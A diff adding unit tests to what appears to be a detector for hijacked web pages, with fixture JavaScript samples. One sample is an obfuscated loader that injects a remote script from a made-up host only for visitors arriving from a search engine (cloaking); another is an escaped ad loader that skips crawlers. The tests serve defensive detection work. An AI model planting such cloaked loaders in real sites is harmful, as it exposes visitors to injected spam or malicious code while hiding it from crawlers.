@@ -40,6 +40,30 @@ def test_loader_that_hides_its_address_behind_a_hand_written_decoder():
     assert any("jq-cdn7.net" in f.evidence for f in a.findings if f.kind == "spam_script")
 
 
+def test_loader_for_visitors_from_a_search_engine_is_cloaking():
+    code = DECODER + (f"eval('window')['{hexed('kQz')}']=function(){{var s=document['{hexed('createElement')}']('script');"
+                      f"s.src=q7('{b64('https://code.jq-cdn7.net/flex.min.js')}');"
+                      "document.getElementsByTagName('head')[0].appendChild(s)};"
+                      f"if(document['{hexed('referrer')}'].length>0)window['kQz']();")
+    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
+    assert {"js_cloak", "spam_script"} <= kinds(a)
+
+
+def test_an_ad_sdk_that_escapes_its_addresses_is_no_loader():
+    # An ad vendor escapes its SDK's addresses (and its code) against blockers and loads them for
+    # every visitor: the addresses are string constants any JS parser reads (v3 FF-H2).
+    names = ("createElement", "script", "async", "src", "getElementsByTagName", "head", "appendChild")
+    table = ",".join("'" + "".join(hexed(c) for c in w) + "'" for w in names)
+    urls = ",".join("'" + "".join(hexed(c) for c in u) + "'"
+                    for u in ("https://sdk.vidads-net.com/v2/player.js", "https://rec.vidads-net.com/status.js"))
+    code = (f"(function(){{var n=[{table}],u=[{urls}];if(/bot|crawl/i.test(navigator.userAgent))return;"
+            "for(var i=0;i<u.length;i++){var s=document[n[0]](n[1]);s[n[2]]=true;s[n[3]]=u[i];"
+            "document[n[4]](n[5])[0][n[6]](s)}})();")
+    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
+    assert not a.hijacked, a.findings
+
+
+
 def test_loader_whose_src_is_a_variable_and_tag_name_is_built_from_pieces():
     # .src = u, u decoded inside an IIFE from its argument; "script" spelt from fragments
     code = DECODER + ("(function(u,r,d,c){u=q7(u);var s=d.createElement(r[2]+'cri'+c);s.src=u;"
